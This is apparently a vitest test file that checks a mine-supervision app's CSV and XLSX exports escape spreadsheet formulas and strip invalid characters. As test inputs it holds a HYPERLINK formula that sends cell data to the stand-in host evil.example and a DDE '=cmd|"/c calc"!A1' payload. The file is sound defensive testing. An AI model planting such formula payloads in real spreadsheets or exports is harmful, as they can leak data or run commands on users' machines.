import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { getBriefing } from '../../src/core/briefing/briefing-use-cases.ts';
import { csvField, inertText } from '../../src/core/export/safe-cells.ts';
import { parseCsv } from '../../src/platform/tabular/read-table.ts';
import { renderBriefingXlsx } from '../../src/reports/briefing-xlsx.ts';
import { asSession, loginAs, useTestApp, useWorld } from '../support/world.ts';
import { indexProvince } from '../http/http-kit.ts';

/** Issue 13, finding 6: exports must not carry live formulas or characters that break a workbook. */

const FORMULA_LEAD = /^[=+\-@\t\r]/;

describe('the one cell helper', () => {
  it.each([
    ['=HYPERLINK("http://x","y")', `'=HYPERLINK("http://x","y")`],
    ['+SUM(A1:A9)', `'+SUM(A1:A9)`],
    ['-2+3', `'-2+3`],
    ['@SUM(1)', `'@SUM(1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['张三', '张三'],
    ['a=b', 'a=b'],
    ['煤矿\uFFFF名\u0001称', '煤矿名称'],
    ['\uFFFF=1', `'=1`],
  ])('%j → %j', (input, out) => {
    expect(inertText(input)).toBe(out);
  });

  it('leaves numbers alone and quotes CSV fields', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
  });
});

describe('exports', () => {
  const world = useWorld();
  const app = useTestApp(world);

  it("coverage.csv: a mine officer's planted formula arrives as inert text", async () => {
    const mine = indexProvince(world).mineOf('officer');
    const officer = await loginAs(app, 'officer');
    const planted = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
    const set = await app.inject({
      method: 'POST',
      url: `/api/supervision/mines/${mine.id}/responsible`,
      headers: asSession(officer),
      payload: { name: planted, position: '+SUM(1)', phone: '0851-1234567' },
    });
    expect(set.statusCode, set.body).toBe(200);
    const county = await loginAs(app, 'county');
    const csv = await app.inject({ url: '/api/supervision/coverage.csv', headers: asSession(county) });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['cache-control']).toBe('no-store');
    const table = parseCsv(csv.body);
    const row = table.rows.find((r) => r[0] === mine.code)!;
    expect(row).toContain(`'${planted}`);
    for (const r of table.rows) for (const cell of r) expect(cell).not.toMatch(FORMULA_LEAD);
  });

  it('briefing.xlsx: formula text is inert and U+FFFF no longer breaks the workbook', async () => {
    const b = await getBriefing(world.ports, await world.principal('province'), {
      from: '2026-11-01',
      to: '2026-11-30',
    });
    const hostile = {
      ...b,
      region: { ...b.region, name: '=cmd|"/c calc"!A1\uFFFF' },
      topRisk: b.topRisk.map((r, i) => (i === 0 ? { ...r, name: `@煤矿\uFFFE${r.name}` } : r)),
    };
    const bytes = await renderBriefingXlsx(hostile);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(
      bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer,
    );
    const cells: string[] = [];
    wb.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((c) => {
          if (typeof c.value === 'string') cells.push(c.value);
        }),
      ),
    );
    expect(cells).toContain(`'=cmd|"/c calc"!A1`);
    if (b.topRisk.length > 0) expect(cells.some((c) => c.startsWith("'@煤矿"))).toBe(true);
    for (const c of cells) {
      expect(c).not.toMatch(FORMULA_LEAD);
      expect(c).not.toMatch(/[\uFFFE\uFFFF]/);
    }
  });
});
